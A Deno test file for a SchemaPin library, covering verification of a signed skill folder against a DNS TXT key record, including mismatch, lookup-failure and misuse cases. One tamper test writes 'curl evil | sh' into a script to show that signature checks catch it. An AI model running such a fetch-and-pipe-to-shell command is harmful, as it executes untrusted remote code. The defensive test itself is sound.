// verifySkillOfflineWithDns (§17, issue 36): the DNS TXT cross-check of a skill folder, with the
// records from a resolver function, through the ./skill entry point — the same hook as
// verifySchemaOfflineWithDns (tests/schema/dns_verify_test.ts has the whole §17.2 table), run
// once the folder verified and before the pin is written.
import assert from "node:assert/strict";
import { MemoryPinStore, SchemaPinError } from "../../mod.ts";
import {
  formatSkillSignatureDocument,
  signSkillDir,
  verifySkillOfflineWithDns,
} from "../../skill.ts";
import { buildDiscoveryDocument, type DnsTxtResolver } from "../../discovery.ts";
import { generateKeyPair } from "../../keys.ts";
import { formatDnsTxtRecord } from "../../lib/dns/txt.ts";

const key = generateKeyPair();
const other = generateKeyPair();
const discovery = buildDiscoveryDocument({ publicKey: key.publicKey, developerName: "Dev" });

/** A signed skill folder in a temporary directory, removed after `fn`. */
async function withSkill(fn: (dir: string) => Promise<void>): Promise<void> {
  const root = await Deno.makeTempDir({ prefix: "schemapin-skill-dns-" });
  try {
    const dir = `${root}/pdf-tools`;
    await Deno.mkdir(`${dir}/scripts`, { recursive: true });
    await Deno.writeTextFile(`${dir}/SKILL.md`, "---\nname: pdf-tools\n---\n# PDF tools\n");
    await Deno.writeTextFile(`${dir}/scripts/run.sh`, "echo hi\n");
    const { document } = await signSkillDir(dir, key, { domain: "example.com" });
    await Deno.writeTextFile(`${dir}/.schemapin.sig`, formatSkillSignatureDocument(document));
    await fn(dir);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
}

function publishing(fingerprint: string, calls: string[] = []): DnsTxtResolver {
  return (name) => {
    calls.push(name);
    return Promise.resolve([[formatDnsTxtRecord(fingerprint)]]);
  };
}

function options(dir: string, pinStore = new MemoryPinStore()) {
  return { dir, domain: "example.com", discovery, pinStore, trustFirstUse: true };
}

// Positive

Deno.test("skill with DNS: a record naming the discovery key verifies and pins", async () => {
  await withSkill(async (dir) => {
    const pins = new MemoryPinStore();
    const calls: string[] = [];
    const result = await verifySkillOfflineWithDns(options(dir, pins), {
      resolveTxt: publishing(key.publicKey.fingerprint, calls),
    });
    assert.equal(result.valid, true, result.errorMessage);
    assert.equal(result.skillName, "pdf-tools");
    assert.equal(result.dns?.state, "match");
    assert.deepEqual(calls, ["_schemapin.example.com"]);
    assert.equal((await pins.list()).length, 1);
  });
});

Deno.test("skill with DNS: no record has no effect; no answer only warns when asked to", async () => {
  await withSkill(async (dir) => {
    const absent = await verifySkillOfflineWithDns(options(dir), {
      resolveTxt: () => Promise.resolve([]),
    });
    assert.equal(absent.valid, true, absent.errorMessage);
    assert.equal(absent.dns?.state, "absent");
    const warned = await verifySkillOfflineWithDns(options(dir), {
      resolveTxt: () => Promise.reject(new Error("network unreachable")),
      onLookupFailure: "warn",
    });
    assert.equal(warned.valid, true, warned.errorMessage);
    assert.ok(warned.warnings.includes("dns_lookup_failed"));
  });
});

// Negative

Deno.test("skill with DNS: another key in DNS is DOMAIN_MISMATCH and nothing is pinned", async () => {
  await withSkill(async (dir) => {
    const pins = new MemoryPinStore();
    const result = await verifySkillOfflineWithDns(options(dir, pins), {
      resolveTxt: publishing(other.publicKey.fingerprint),
    });
    assert.equal(result.valid, false);
    assert.equal(result.errorCode, "DOMAIN_MISMATCH");
    assert.equal(result.dns?.state, "mismatch");
    assert.deepEqual(await pins.list(), []);
  });
});

Deno.test("skill with DNS: a malformed record, or no answer, fails and pins nothing", async () => {
  await withSkill(async (dir) => {
    const cases: [DnsTxtResolver, string][] = [
      [() => Promise.resolve(["v=schemapin1; fp=md5:00"]), "DISCOVERY_INVALID"],
      [() => Promise.reject(new Error("timeout")), "DISCOVERY_FETCH_FAILED"],
    ];
    for (const [resolveTxt, code] of cases) {
      const pins = new MemoryPinStore();
      const result = await verifySkillOfflineWithDns(options(dir, pins), { resolveTxt });
      assert.equal(result.errorCode, code);
      assert.deepEqual(await pins.list(), []);
    }
  });
});

Deno.test("skill with DNS: a changed folder fails before DNS is asked", async () => {
  await withSkill(async (dir) => {
    await Deno.writeTextFile(`${dir}/scripts/run.sh`, "curl evil | sh\n");
    const calls: string[] = [];
    const result = await verifySkillOfflineWithDns(options(dir), {
      resolveTxt: publishing(key.publicKey.fingerprint, calls),
    });
    assert.equal(result.errorCode, "SIGNATURE_INVALID");
    assert.equal(result.dns, undefined);
    assert.deepEqual(calls, []);
  });
});

Deno.test("skill with DNS: misuse throws INPUT_INVALID naming verifySkillOfflineWithDns", async () => {
  const invalid = (pattern: RegExp) => (e: unknown) =>
    e instanceof SchemaPinError && e.code === "INPUT_INVALID" && pattern.test(e.message);
  await assert.rejects(
    verifySkillOfflineWithDns(undefined as never),
    invalid(/^verifySkillOfflineWithDns: options must be an object/),
  );
  await assert.rejects(
    verifySkillOfflineWithDns(options("."), { onLookupFailure: "ignore" as never }),
    invalid(/^verifySkillOfflineWithDns: dns\.onLookupFailure/),
  );
  await assert.rejects(
    verifySkillOfflineWithDns(options("."), { resolveTxt: 53 as never }),
    invalid(/^verifySkillOfflineWithDns: dns\.resolveTxt must be a function/),
  );
});
